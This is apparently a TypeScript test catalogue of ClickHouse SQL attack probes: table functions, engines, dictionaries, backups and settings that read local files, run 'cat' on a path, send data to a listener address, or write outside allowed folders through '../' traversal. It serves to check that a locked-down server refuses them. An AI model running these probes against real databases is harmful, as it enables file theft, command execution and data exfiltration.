/**
 * Calls of each table function, engine, and function of ClickHouse with a path or an address. A feature of the server
 * that this file does not list is an untested attack, and fails: look it up, and add it to one of the lists.
 */

/**
 * Placeholders: `{path}` of a file, `{folder}` of the file, `{relative}` path, `{address}` of a listener, `{host}`,
 * `{port}`.
 */
export type Sql = string;

const objectStorage = (name: string): readonly Sql[] => [
  `${name}('http://{address}/bucket/key.csv', 'CSV', 'a String')`,
  `${name}('http://{address}/bucket/key.csv', NOSIGN, 'CSV', 'a String')`,
];
const local = (name: string): readonly Sql[] => [`${name}('{folder}')`, `${name}('{path}')`];
const lake = (name: string): readonly Sql[] => [`${name}('http://{address}/bucket/key/')`];
const clustered = (name: string, argument: Sql): readonly Sql[] => [
  `${name}('default', ${argument})`,
];

/** Arguments of every table function that takes a path, an address or a command. */
export const tableFunctions: Readonly<Record<string, readonly Sql[]>> = {
  file: [
    "file('{path}', 'LineAsString')",
    "file('{path}', 'RawBLOB')",
    "file('{path}')",
    "file('{relative}', 'LineAsString')",
    "file('{folder}/*', 'LineAsString')",
    "file('file://{path}', 'LineAsString')",
    "file('{path} :: *', 'LineAsString')",
    "file('-', 'LineAsString')",
  ],
  fileCluster: clustered('fileCluster', "'{path}', 'LineAsString', 'a String'"),
  filesystem: ["filesystem('{folder}')", "filesystem('{path}')"],
  url: [
    "url('http://{address}/', 'LineAsString')",
    "url('file://{path}', 'LineAsString')",
    "url('file://{path}', 'RawBLOB', 'a String')",
  ],
  urlCluster: clustered('urlCluster', "'http://{address}/', 'CSV', 'a String'"),
  executable: ["executable('cat', 'LineAsString', 'a String', (SELECT '{path}'))"],
  sqlite: ["sqlite('{path}', 'main')"],
  mysql: ["mysql('{address}', 'd', 't', 'u', 'p')"],
  postgresql: ["postgresql('{address}', 'd', 't', 'u', 'p')"],
  mongodb: ["mongodb('{address}', 'd', 't', 'u', 'p', 'a String')"],
  redis: ["redis('{address}', 'a', 'a String, b String')"],
  jdbc: ["jdbc('jdbc:mysql://{address}/', 'd', 't')"],
  odbc: ["odbc('DSN=x;Server={host};Port={port}', 'd', 't')"],
  ytsaurus: ["ytsaurus('http://{address}', '//t', 'o', 'a String')"],
  hdfs: ["hdfs('hdfs://{address}/x', 'CSV', 'a String')"],
  hdfsCluster: clustered('hdfsCluster', "'hdfs://{address}/x', 'CSV', 'a String'"),
  s3: objectStorage('s3'),
  gcs: objectStorage('gcs'),
  oss: objectStorage('oss'),
  cosn: objectStorage('cosn'),
  s3Cluster: clustered('s3Cluster', "'http://{address}/bucket/key.csv', 'CSV', 'a String'"),
  azureBlobStorage: [
    "azureBlobStorage('http://{address}/a', 'c', 'b.csv', 'a', 'a2V5', 'CSV', 'none', 'a String')",
  ],
  azureBlobStorageCluster: clustered(
    'azureBlobStorageCluster',
    "'http://{address}/a', 'c', 'b.csv', 'a', 'a2V5', 'CSV', 'none', 'a String'",
  ),
  remote: [
    "remote('{address}', 'system', 'one')",
    "remote('127.0.0.1:{port}', view(SELECT 1))",
    "remote('localhost:9000', 'weir', 'user_accounts')",
  ],
  remoteSecure: ["remoteSecure('{address}', 'system', 'one')"],
  hudi: lake('hudi'),
  hudiCluster: clustered('hudiCluster', "'http://{address}/bucket/key/'"),
  ...Object.fromEntries(
    ['deltaLake', 'iceberg', 'paimon'].flatMap((format) => [
      [format, lake(format)],
      [`${format}S3`, lake(`${format}S3`)],
      [`${format}Local`, local(`${format}Local`)],
      [`${format}HDFS`, [`${format}HDFS('hdfs://{address}/x')`]],
      [`${format}Azure`, [`${format}Azure('http://{address}/a', 'c', 'b', 'a', 'a2V5')`]],
      [`${format}Cluster`, clustered(`${format}Cluster`, "'http://{address}/bucket/key/'")],
      [`${format}LocalCluster`, clustered(`${format}LocalCluster`, "'{folder}'")],
      [`${format}S3Cluster`, clustered(`${format}S3Cluster`, "'http://{address}/bucket/key/'")],
      [`${format}HDFSCluster`, clustered(`${format}HDFSCluster`, "'hdfs://{address}/x'")],
      [
        `${format}AzureCluster`,
        clustered(`${format}AzureCluster`, "'http://{address}/a', 'c', 'b', 'a', 'a2V5'"),
      ],
    ]),
  ),
};

/** Table functions that read tables or make rows up: class `rows` tries those that name a table. */
export const tableFunctionsWithoutPath: readonly string[] = `
  SQLStandardValues cluster clusterAllReplicas dictionary eval format fuzzJSON fuzzQuery generateRandom
  generateSeries generate_series input loop merge mergeTreeAnalyzeIndexes mergeTreeAnalyzeIndexesUUID
  mergeTreeIndex mergeTreeProjection mergeTreeTextIndex null numbers numbers_mt primes prometheusQuery
  prometheusQueryRange timeSeriesData timeSeriesMetrics timeSeriesSamples timeSeriesSelector timeSeriesTags
  values view viewExplain viewIfPermitted zeros zeros_mt`
  .trim()
  .split(/\s+/);

/** Table engines with a path, an address, or a command: the text after `ENGINE = `. */
export const engines: Readonly<Record<string, Sql>> = {
  File: "File(LineAsString, '{path}')",
  FileLog: "FileLog('{folder}', 'LineAsString')",
  URL: "URL('http://{address}/', 'CSV')",
  Executable: "Executable('cat {path}', 'LineAsString')",
  ExecutablePool: "ExecutablePool('cat {path}', 'LineAsString')",
  SQLite: "SQLite('{path}', 't')",
  MySQL: "MySQL('{address}', 'd', 't', 'u', 'p')",
  PostgreSQL: "PostgreSQL('{address}', 'd', 't', 'u', 'p')",
  MaterializedPostgreSQL: "MaterializedPostgreSQL('{address}', 'd', 't', 'u', 'p') PRIMARY KEY a",
  MongoDB: "MongoDB('{address}', 'd', 't', 'u', 'p')",
  Redis: "Redis('{address}') PRIMARY KEY a",
  JDBC: "JDBC('jdbc:mysql://{address}/', 'd', 't')",
  ODBC: "ODBC('DSN=x;Server={host};Port={port}', 'd', 't')",
  YTsaurus: "YTsaurus('http://{address}', '//t', 'o')",
  HDFS: "HDFS('hdfs://{address}/x', 'CSV')",
  Kafka: "Kafka('{address}', 't', 'g', 'CSV')",
  S3: "S3('http://{address}/bucket/key.csv', 'CSV')",
  GCS: "GCS('http://{address}/bucket/key.csv', 'CSV')",
  OSS: "OSS('http://{address}/bucket/key.csv', 'CSV')",
  COSN: "COSN('http://{address}/bucket/key.csv', 'CSV')",
  S3Queue: "S3Queue('http://{address}/bucket/*', 'CSV') SETTINGS mode = 'unordered'",
  AzureQueue: "AzureQueue('http://{address}/a', 'c', '*', 'CSV') SETTINGS mode = 'unordered'",
  AzureBlobStorage: "AzureBlobStorage('http://{address}/a', 'c', 'b', 'a', 'a2V5', 'CSV')",
  DeltaLake: "DeltaLake('http://{address}/bucket/key/')",
  DeltaLakeS3: "DeltaLakeS3('http://{address}/bucket/key/')",
  DeltaLakeLocal: "DeltaLakeLocal('{folder}')",
  DeltaLakeAzure: "DeltaLakeAzure('http://{address}/a', 'c', 'b', 'a', 'a2V5')",
  Hudi: "Hudi('http://{address}/bucket/key/')",
  Iceberg: "Iceberg('http://{address}/bucket/key/')",
  IcebergS3: "IcebergS3('http://{address}/bucket/key/')",
  IcebergLocal: "IcebergLocal('{folder}')",
  IcebergHDFS: "IcebergHDFS('hdfs://{address}/x')",
  IcebergAzure: "IcebergAzure('http://{address}/a', 'c', 'b', 'a', 'a2V5')",
  Paimon: "Paimon('http://{address}/bucket/key/')",
  PaimonS3: "PaimonS3('http://{address}/bucket/key/')",
  PaimonLocal: "PaimonLocal('{folder}')",
  PaimonHDFS: "PaimonHDFS('hdfs://{address}/x')",
  PaimonAzure: "PaimonAzure('http://{address}/a', 'c', 'b', 'a', 'a2V5')",
  Remote: "Remote('{address}', 'system', 'one')",
  RemoteSecure: "RemoteSecure('{address}', 'system', 'one')",
  EmbeddedRocksDB: "EmbeddedRocksDB(0, '{folder}/made-rocksdb') PRIMARY KEY a",
  MergeTree:
    "MergeTree ORDER BY a SETTINGS disk = disk(type = 'local', path = '{folder}/made-disk/')",
  ReplacingMergeTree:
    "ReplacingMergeTree ORDER BY a SETTINGS disk = disk(type = 'web', endpoint = 'http://{address}/')",
  SummingMergeTree:
    "SummingMergeTree ORDER BY a SETTINGS disk = disk(type = 's3', endpoint = 'http://{address}/b/')",
  AggregatingMergeTree:
    "AggregatingMergeTree ORDER BY a SETTINGS disk = disk(type = 'cache', path = '{folder}/made-cache/', max_size = '1Mi', disk = 'default')",
};

/** Engines that keep their rows in memory, or below the folder of the server, under a name that the server chooses. */
export const enginesWithoutPath: readonly string[] = `
  Alias Buffer CoalescingMergeTree CollapsingMergeTree Dictionary Distributed FuzzJSON FuzzQuery GenerateRandom
  GraphiteMergeTree Join KeeperMap Log Loop MaterializedView Memory Merge Null QueryRunner
  ReplicatedAggregatingMergeTree ReplicatedCoalescingMergeTree ReplicatedCollapsingMergeTree
  ReplicatedGraphiteMergeTree ReplicatedMergeTree ReplicatedReplacingMergeTree ReplicatedSummingMergeTree
  ReplicatedVersionedCollapsingMergeTree Set StripeLog TimeSeries TinyLog VersionedCollapsingMergeTree View
  WindowView`
  .trim()
  .split(/\s+/);

/** Functions with a path, an address, or information about the machine. */
export const functions: Readonly<Record<string, readonly Sql[]>> = {
  file: [
    "file('{path}')",
    "file('{relative}')",
    "length(file('{path}'))",
    "base64Encode(file('{path}'))",
    "file(concat('/', substring('{path}', 2)))",
    "arrayMap(p -> file(p), ['{path}'])",
  ],
  catboostEvaluate: ["catboostEvaluate('{path}', 1)"],
  showCertificate: ['toString(showCertificate()) IN (SELECT 1)'],
  aiClassify: ["aiClassify('x', ['a'], map('credentials', 'c', 'endpoint', 'http://{address}'))"],
  aiEmbed: ["aiEmbed('x', map('credentials', 'c', 'endpoint', 'http://{address}'))"],
  aiExtract: ["aiExtract('x', 'y', map('credentials', 'c', 'endpoint', 'http://{address}'))"],
  aiGenerate: ["aiGenerate('x', map('credentials', 'c', 'endpoint', 'http://{address}'))"],
  aiTranslate: ["aiTranslate('x', 'de', map('credentials', 'c', 'endpoint', 'http://{address}'))"],
  joinGet: ["joinGet('weir.user_accounts', 'account_id', 'foreigner')"],
  joinGetOrNull: ["joinGetOrNull('weir.user_accounts', 'account_id', 'foreigner')"],
  addressToLine: ['addressToLine(1)'],
  addressToLineWithInlines: ['addressToLineWithInlines(1)'],
  addressToSymbol: ['addressToSymbol(1)'],
};

/** Description of a function that may have to do with files or addresses. */
export const mentionsPath =
  '(?i)\\b(file|path|url|uri|host|address|endpoint|server|socket|credential|directory|disk)s?\\b';

/**
 * Functions whose description contains such a word, and that work on text, numbers, or public information about the
 * server.
 */
export const functionsWithoutPath: readonly string[] = `
  FQDN IPv4CIDRToRange IPv4NumToString IPv4NumToStringClassC IPv4StringToNum
  IPv4StringToNumOrDefault IPv4StringToNumOrNull IPv4ToIPv6 IPv6CIDRToRange IPv6NumToString
  IPv6StringToNum IPv6StringToNumOrDefault IPv6StringToNumOrNull JSONAllPaths
  JSONAllPathsWithTypes JSONAllValues JSONDynamicPaths JSONDynamicPathsWithTypes JSONKey
  JSONSharedDataPaths JSONSharedDataPathsWithTypes JSON_EXISTS JSON_QUERY JSON_VALUE
  MACNumToString MACStringToNum MACStringToOUI URLHash URLHierarchy URLPathHierarchy
  UUIDv7ToDateTime base64URLDecode base64URLEncode basename blockSerializedSize buildId
  cutFragment cutIPv6 cutQueryString cutQueryStringAndFragment cutToFirstSignificantSubdomain
  cutToFirstSignificantSubdomainCustom cutToFirstSignificantSubdomainCustomRFC
  cutToFirstSignificantSubdomainCustomWithWWW cutToFirstSignificantSubdomainCustomWithWWWRFC
  cutToFirstSignificantSubdomainRFC cutToFirstSignificantSubdomainWithWWW
  cutToFirstSignificantSubdomainWithWWWRFC cutURLParameter cutWWW decodeURLComponent
  decodeURLFormComponent displayName domain domainRFC domainWithoutWWW domainWithoutWWWRFC
  encodeURLComponent encodeURLFormComponent extractKeyValuePairs extractURLParameter
  extractURLParameterNames extractURLParameters filesystemAvailable filesystemCapacity
  filesystemUnreserved firstSignificantSubdomainCustom firstSignificantSubdomainCustomRFC
  flattenTuple fragment generateSerialID getTypeSerializationStreams globalIn globalInIgnoreSet
  globalNotIn globalNotInIgnoreSet globalNotNullIn globalNotNullInIgnoreSet globalNullIn
  globalNullInIgnoreSet has hasAllTokens hasAnyTokens hasPhrase hilbertDecode hostName indexHint
  isIPAddressInRange isIPv4String isIPv6String javaHash javaHashUTF16LE localtime mortonDecode
  netloc path pathFull port portRFC protocol queryString queryStringAndFragment randomStringUTF8
  regionToPopulation reverseBySeparator revision serverTimezone serverUUID snowflakeIDToDateTime
  snowflakeIDToDateTime64 tcpPort toIPv4 toIPv4OrDefault toIPv4OrNull toIPv4OrZero toIPv6
  toIPv6OrDefault toIPv6OrNull toIPv6OrZero toLastDayOfWeek toStartOfWeek toUnixTimestamp
  topLevelDomain topLevelDomainRFC transactionID uptime
  demangle getMacro getServerPort getServerSetting logTrace`
  .trim()
  .split(/\s+/);

/** Other statements with a path or an address; several if one prepares another. */
export const statements: readonly (readonly Sql[])[] = [
  ['SELECT * FROM `{path}`'],
  ['SELECT * FROM default.`{path}`'],
  ["SELECT * FROM '{path}'"],
  ["DESCRIBE TABLE file('{path}')"],
  [
    "CREATE TABLE weir.attack_copy ENGINE = MergeTree ORDER BY line AS SELECT * FROM file('{path}', 'LineAsString')",
  ],
  [
    "INSERT INTO weir.user_accounts (user_name, account_id) SELECT line, line FROM file('{path}', 'LineAsString')",
  ],
  ["INSERT INTO FUNCTION file('{folder}/made-file', 'LineAsString') SELECT 'x'"],
  ["INSERT INTO FUNCTION url('http://{address}/', 'CSV', 'a String') SELECT 'x'"],
  ["INSERT INTO weir.user_accounts (user_name) FROM INFILE '{path}' FORMAT TSV"],
  ["SELECT 1 INTO OUTFILE '{folder}/made-outfile'"],
  ["BACKUP TABLE weir.batches TO File('{folder}/made-backup')"],
  ["BACKUP TABLE weir.batches TO Disk('default', '../../made-backup')"],
  ["BACKUP TABLE weir.batches TO S3('http://{address}/b/k', 'u', 'p')"],
  ["RESTORE TABLE weir.batches AS weir.attack_restored FROM File('{path}')"],
  ["RESTORE TABLE weir.batches AS weir.attack_restored FROM S3('http://{address}/b/k', 'u', 'p')"],
  ["ATTACH TABLE weir.attack_attached FROM '{folder}' (a String) ENGINE = File(TSV)"],
  ["ALTER TABLE weir.batches FREEZE WITH NAME '../../../made-freeze'"],
  ["ALTER TABLE weir.batches FETCH PARTITION ALL FROM '{path}'"],
  [
    "CREATE DATABASE attack_files ENGINE = Filesystem('{folder}')",
    'SELECT * FROM attack_files.`{path}`',
  ],
  ["CREATE DATABASE attack_sqlite ENGINE = SQLite('{path}')"],
  ["CREATE DATABASE attack_mysql ENGINE = MySQL('{address}', 'd', 'u', 'p')"],
  ["CREATE DATABASE attack_postgres ENGINE = PostgreSQL('{address}', 'd', 'u', 'p')"],
  [
    "CREATE DATABASE attack_materialized ENGINE = MaterializedPostgreSQL('{address}', 'd', 'u', 'p')",
  ],
  [
    "CREATE DATABASE attack_lake ENGINE = DataLakeCatalog('http://{address}/') SETTINGS catalog_type = 'rest', warehouse = 'w'",
  ],
  [
    "CREATE DATABASE attack_s3 ENGINE = S3('http://{address}/b/')",
    'SELECT * FROM attack_s3.`k.csv`',
  ],
  ["CREATE DATABASE attack_hdfs ENGINE = HDFS('hdfs://{address}/')"],
  ["CREATE DATABASE attack_backup ENGINE = Backup('weir', File('{path}'))"],
  [
    "CREATE DATABASE attack_disk ENGINE = Atomic SETTINGS disk = disk(type = 'local', path = '{folder}/made-database/')",
  ],
  ["CREATE NAMED COLLECTION attack_named AS url = 'http://{address}/'"],
  ["CREATE FUNCTION attack_function AS () -> file('{path}')", 'SELECT attack_function()'],
  ["CREATE VIEW weir.attack_view AS SELECT file('{path}') AS a", 'SELECT * FROM weir.attack_view'],
  ...[
    "FILE(path '{path}' format 'TSV')",
    "HTTP(url 'http://{address}/' format 'TSV')",
    "EXECUTABLE(command 'cat {path}' format 'TSV')",
    "MYSQL(host '{host}' port {port} user 'u' password 'p' db 'd' table 't')",
    "POSTGRESQL(host '{host}' port {port} user 'u' password 'p' db 'd' table 't')",
    "MONGODB(host '{host}' port {port} user 'u' password 'p' db 'd' collection 'c')",
    "REDIS(host '{host}' port {port} storage_type 'simple' db_index 0)",
    "CLICKHOUSE(host '{host}' port {port} user 'default' db 'system' table 'one')",
    "ODBC(connection_string 'DSN=x' db 'd' table 't')",
    "YAMLREGEXPTREE(path '{path}')",
  ].map((source, n) => [
    `CREATE DICTIONARY weir.attack_dictionary_${n} (k UInt64, a String) PRIMARY KEY k SOURCE(${source}) LAYOUT(FLAT()) LIFETIME(0)`,
    `SELECT * FROM weir.attack_dictionary_${n}`,
    `SELECT dictGet('weir.attack_dictionary_${n}', 'a', 1)`,
  ]),
  ...["'{path}'", "'{relative}'"].flatMap((path) => [
    [`SELECT 1 AS a FORMAT Template SETTINGS format_template_resultset = ${path}`],
    [`SELECT 1 AS a FORMAT Template SETTINGS format_template_row = ${path}`],
    [`SELECT 1 AS a FORMAT Template SETTINGS format_template_row_format = file(${path})`],
    [`SELECT * FROM format(Template, 'x') SETTINGS format_template_resultset = ${path}`],
    [`SELECT * FROM (SELECT 1 AS a SETTINGS format_template_resultset = ${path}) FORMAT Template`],
    [`SELECT * FROM (SELECT 1 AS a SETTINGS readonly = 0) WHERE file(${path}) != ''`],
    [`SELECT 1 AS a FORMAT Protobuf SETTINGS format_schema = ${path}`],
    [`SELECT 1 AS a FORMAT CapnProto SETTINGS format_schema = ${path}`],
    [`SELECT * FROM format(Protobuf, 'x') SETTINGS format_schema = ${path}`],
    [`SELECT * FROM format(CapnProto, 'x') SETTINGS format_schema = ${path}`],
    [
      `SELECT * FROM format(Template, 'x') SETTINGS format_schema_source = 'file', format_schema = ${path}`,
    ],
  ]),
  [
    "SELECT * FROM format(AvroConfluent, 'a String', '00000000') SETTINGS format_avro_schema_registry_url = 'http://{address}/'",
  ],
  ['SYSTEM RELOAD CONFIG'],
  ['SYSTEM RELOAD DICTIONARIES'],
  ["SYSTEM UNFREEZE WITH NAME '../../../made-freeze'"],
];
